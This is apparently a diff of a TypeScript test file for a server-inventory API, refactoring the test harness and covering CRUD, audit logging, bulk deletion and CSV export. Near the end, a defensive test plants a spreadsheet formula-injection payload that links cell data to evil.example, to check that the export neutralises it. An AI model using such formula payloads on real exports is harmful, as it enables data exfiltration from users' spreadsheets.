@@ -3,37 +3,21 @@ import { envelope } from '@intranet/contract/envelope';
 import { servidorDetalle, servidorPage, servidoresResponse } from '@intranet/contract/servidores';
 import { parse } from 'csv-parse/sync';
 import { sql } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { auditoria, direcciones, dns, servidores } from '../../db/schema.ts';
-import { bearer, createTemplate, PASSWORDS, type Template, type TestApp } from '../../test/harness.ts';
+import { bearer, freshApp, PASSWORDS, useTemplate } from '../../test/harness.ts';
 
-let template: Template;
-beforeAll(async () => {
-  template = await createTemplate();
-});
-afterAll(async () => {
-  await template.close();
-});
+const template = useTemplate();
 
 /** A fresh copy of the seeded database for a group of tests, signed in as `tecnico` (SER#VER, SER#EDITAR...). */
-function fresh() {
-  const ctx = {} as { t: TestApp; headers: { authorization: string } };
-  beforeAll(async () => {
-    ctx.t = await template.clone();
-    ctx.headers = await bearer(ctx.t.app, 'tecnico', PASSWORDS.demo);
-  });
-  afterAll(async () => {
-    await ctx.t.close();
-  });
-  return ctx;
-}
+const fresh = () => freshApp(template, ['tecnico']);
 
 const NUEVO = { nombre: 'srv-nuevo-01', hostname: 'nuevo01.physis.com.ar', ip_publica: '200.1.2.3', ip_privada: '', proveedor: 'AWS', rol: 'Pruebas', so: 'Debian 12', estado: 'activo', notas: '' };
 
 describe('GET /api/servidores (spec shape)', () => {
   const ctx = fresh();
   it('answers datos = servers with id, nombre and dnss of {id, host}, by name', async () => {
-    const res = await ctx.t.app.inject({ url: '/api/servidores', headers: ctx.headers });
+    const res = await ctx.t.app.inject({ url: '/api/servidores', headers: ctx.tecnico });
     expect(res.statusCode).toBe(200);
     const body = res.json();
     expect(servidoresResponse.safeParse(body).success).toBe(true);
@@ -47,7 +31,7 @@ describe('GET /api/servidores (spec shape)', () => {
   });
 
   it('carries Server-Timing with the server time', async () => {
-    const res = await ctx.t.app.inject({ url: '/api/servidores', headers: ctx.headers });
+    const res = await ctx.t.app.inject({ url: '/api/servidores', headers: ctx.tecnico });
     expect(res.headers['server-timing']).toMatch(/^app;dur=\d+(\.\d+)?$/);
   });
 });
@@ -55,7 +39,7 @@ describe('GET /api/servidores (spec shape)', () => {
 describe('GET /api/servidores/lista', () => {
   const ctx = fresh();
   const lista = async (query: string) => {
-    const res = await ctx.t.app.inject({ url: `/api/servidores/lista?${query}`, headers: ctx.headers });
+    const res = await ctx.t.app.inject({ url: `/api/servidores/lista?${query}`, headers: ctx.tecnico });
     return { status: res.statusCode, body: res.json() };
   };
 
@@ -112,7 +96,7 @@ describe('GET /api/servidores/:id', () => {
   const ctx = fresh();
   it('answers the server with its DNS entries and their addresses', async () => {
     const [srv] = await ctx.t.db.select({ id: servidores.id }).from(servidores).where(sql`${servidores.nombre} = 'srv-app-01'`);
-    const res = await ctx.t.app.inject({ url: `/api/servidores/${srv!.id}`, headers: ctx.headers });
+    const res = await ctx.t.app.inject({ url: `/api/servidores/${srv!.id}`, headers: ctx.tecnico });
     expect(res.statusCode).toBe(200);
     const body = res.json();
     expect(envelope(servidorDetalle).safeParse(body).success).toBe(true);
@@ -123,8 +107,8 @@ describe('GET /api/servidores/:id', () => {
   });
 
   it('answers 404 for a server that does not exist and 400 for a bad id', async () => {
-    expect((await ctx.t.app.inject({ url: '/api/servidores/999999', headers: ctx.headers })).statusCode).toBe(404);
-    const bad = await ctx.t.app.inject({ url: '/api/servidores/abc', headers: ctx.headers });
+    expect((await ctx.t.app.inject({ url: '/api/servidores/999999', headers: ctx.tecnico })).statusCode).toBe(404);
+    const bad = await ctx.t.app.inject({ url: '/api/servidores/abc', headers: ctx.tecnico });
     expect(bad.statusCode).toBe(400);
     expect(bad.json().campos).toHaveProperty('id');
   });
@@ -133,13 +117,13 @@ describe('GET /api/servidores/:id', () => {
 describe('creating and changing a server', () => {
   const ctx = fresh();
   const history = async (id: number) => {
-    const res = await ctx.t.app.inject({ url: `/api/auditoria?entidad=servidor&id=${id}`, headers: ctx.headers });
+    const res = await ctx.t.app.inject({ url: `/api/auditoria?entidad=servidor&id=${id}`, headers: ctx.tecnico });
     expect(envelope(auditPage).safeParse(res.json()).success).toBe(true);
     return res.json().datos.items;
   };
 
   it('creates with 201 and the record, writing an audit row with after', async () => {
-    const res = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.headers, payload: NUEVO });
+    const res = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.tecnico, payload: NUEVO });
     expect(res.statusCode).toBe(201);
     const creado = res.json().datos;
     expect(creado).toMatchObject({ nombre: 'srv-nuevo-01', ip_privada: null, notas: null, dnss: [] });
@@ -149,7 +133,7 @@ describe('creating and changing a server', () => {
   });
 
   it('refuses a duplicate name in any case with 409 on the nombre field', async () => {
-    const res = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.headers, payload: { ...NUEVO, nombre: 'SRV-APP-01' } });
+    const res = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.tecnico, payload: { ...NUEVO, nombre: 'SRV-APP-01' } });
     expect(res.statusCode).toBe(409);
     expect(res.json()).toEqual({ error: 'Ya existe un servidor con ese nombre', datos: null, campos: { nombre: ['Ya existe un servidor con ese nombre'] } });
   });
@@ -158,7 +142,7 @@ describe('creating and changing a server', () => {
     const res = await ctx.t.app.inject({
       method: 'POST',
       url: '/api/servidores',
-      headers: ctx.headers,
+      headers: ctx.tecnico,
       payload: { nombre: '', hostname: 'no es host', ip_publica: '999.1.1.1', estado: 'roto', extra: 1 },
     });
     expect(res.statusCode).toBe(400);
@@ -167,14 +151,14 @@ describe('creating and changing a server', () => {
 
   it('updates, writing before and after; 404 for a missing server; 409 for a taken name', async () => {
     const [srv] = await ctx.t.db.select({ id: servidores.id }).from(servidores).where(sql`${servidores.nombre} = 'srv-nuevo-01'`);
-    const res = await ctx.t.app.inject({ method: 'PUT', url: `/api/servidores/${srv!.id}`, headers: ctx.headers, payload: { ...NUEVO, estado: 'offline', rol: 'Retirado' } });
+    const res = await ctx.t.app.inject({ method: 'PUT', url: `/api/servidores/${srv!.id}`, headers: ctx.tecnico, payload: { ...NUEVO, estado: 'offline', rol: 'Retirado' } });
     expect(res.statusCode).toBe(200);
     expect(res.json().datos).toMatchObject({ id: srv!.id, estado: 'offline', rol: 'Retirado' });
     const [row] = await history(srv!.id);
     expect(row).toMatchObject({ accion: 'modificar', antes: { estado: 'activo', rol: 'Pruebas' }, despues: { estado: 'offline', rol: 'Retirado' } });
 
-    expect((await ctx.t.app.inject({ method: 'PUT', url: '/api/servidores/999999', headers: ctx.headers, payload: NUEVO })).statusCode).toBe(404);
-    const taken = await ctx.t.app.inject({ method: 'PUT', url: `/api/servidores/${srv!.id}`, headers: ctx.headers, payload: { ...NUEVO, nombre: 'srv-db-01' } });
+    expect((await ctx.t.app.inject({ method: 'PUT', url: '/api/servidores/999999', headers: ctx.tecnico, payload: NUEVO })).statusCode).toBe(404);
+    const taken = await ctx.t.app.inject({ method: 'PUT', url: `/api/servidores/${srv!.id}`, headers: ctx.tecnico, payload: { ...NUEVO, nombre: 'srv-db-01' } });
     expect(taken.statusCode).toBe(409);
     expect(taken.json().campos).toEqual({ nombre: ['Ya existe un servidor con ese nombre'] });
   });
@@ -193,7 +177,7 @@ describe('deleting servers', () => {
 
   it('refuses a server with DNS entries without cascada (409), deleting nothing', async () => {
     const id = (await idOf('srv-app-01'))!;
-    const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.headers });
+    const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico });
     expect(res.statusCode).toBe(409);
     expect(res.json().error).toMatch(/srv-app-01 tiene entradas DNS/);
     expect(await idOf('srv-app-01')).toBe(id);
@@ -206,7 +190,7 @@ describe('deleting servers', () => {
     );
     await ctx.t.db.execute(sql.raw('create trigger auditoria_falla before insert on auditoria for each row execute function auditoria_falla()'));
     try {
-      const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}?cascada=true`, headers: ctx.headers });
+      const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}?cascada=true`, headers: ctx.tecnico });
       expect(res.statusCode).toBe(500);
     } finally {
       await ctx.t.db.execute(sql.raw('drop trigger auditoria_falla on auditoria'));
@@ -219,7 +203,7 @@ describe('deleting servers', () => {
   it('with cascada=true deletes the server, its DNS entries and their addresses, with an audit row for each', async () => {
     const id = (await idOf('srv-app-01'))!;
     const entries = await dnsOf(id);
-    const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}?cascada=true`, headers: ctx.headers });
+    const res = await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}?cascada=true`, headers: ctx.tecnico });
     expect(res.statusCode).toBe(200);
     expect(res.json()).toEqual({ error: null, datos: null });
     expect(await idOf('srv-app-01')).toBeUndefined();
@@ -236,23 +220,23 @@ describe('deleting servers', () => {
 
   it('deletes a server without DNS entries without cascada; 404 when it does not exist', async () => {
     const id = (await idOf('srv-test-02'))!;
-    expect((await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.headers })).statusCode).toBe(200);
-    expect((await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.headers })).statusCode).toBe(404);
+    expect((await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode).toBe(200);
+    expect((await ctx.t.app.inject({ method: 'DELETE', url: `/api/servidores/${id}`, headers: ctx.tecnico })).statusCode).toBe(404);
   });
 
   it('bulk: all or none; 409 naming the servers with entries unless cascada', async () => {
     const ids = [(await idOf('srv-db-01'))!, (await idOf('srv-web-01'))!];
-    const refused = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.headers, payload: { ids } });
+    const refused = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.tecnico, payload: { ids } });
     expect(refused.statusCode).toBe(409);
     expect(refused.json().error).toMatch(/srv-db-01, srv-web-01/);
     expect(await idOf('srv-db-01')).toBe(ids[0]);
 
-    const done = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.headers, payload: { ids: [...ids, 999999], cascada: true } });
+    const done = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.tecnico, payload: { ids: [...ids, 999999], cascada: true } });
     expect(done.statusCode).toBe(200);
     expect(done.json()).toEqual({ error: null, datos: { eliminados: 2 } });
     expect(await idOf('srv-web-01')).toBeUndefined();
 
-    const empty = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.headers, payload: { ids: [] } });
+    const empty = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores/eliminar', headers: ctx.tecnico, payload: { ids: [] } });
     expect(empty.statusCode).toBe(400);
     expect(empty.json().campos).toHaveProperty('ids');
   });
@@ -260,7 +244,7 @@ describe('deleting servers', () => {
 
 describe('GET /api/servidores/export.csv', () => {
   const ctx = fresh();
-  const csv = (query: string) => ctx.t.app.inject({ url: `/api/servidores/export.csv?${query}`, headers: ctx.headers });
+  const csv = (query: string) => ctx.t.app.inject({ url: `/api/servidores/export.csv?${query}`, headers: ctx.tecnico });
 
   it('streams the filtered list: BOM, Spanish headers, dated file name, dd/mm/aaaa HH:mm dates', async () => {
     const res = await csv('q=hetzner&sort=-nombre');
@@ -313,7 +297,7 @@ describe('GET /api/servidores/export.csv', () => {
 
   it('writes a name that a spreadsheet would run as a formula as plain text', async () => {
     const nombre = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
-    const creado = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.headers, payload: { ...NUEVO, nombre, notas: '@SUM(1+1)' } });
+    const creado = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.tecnico, payload: { ...NUEVO, nombre, notas: '@SUM(1+1)' } });
     expect(creado.statusCode).toBe(201);
     const res = await csv('q=evil.example');
     expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"`);
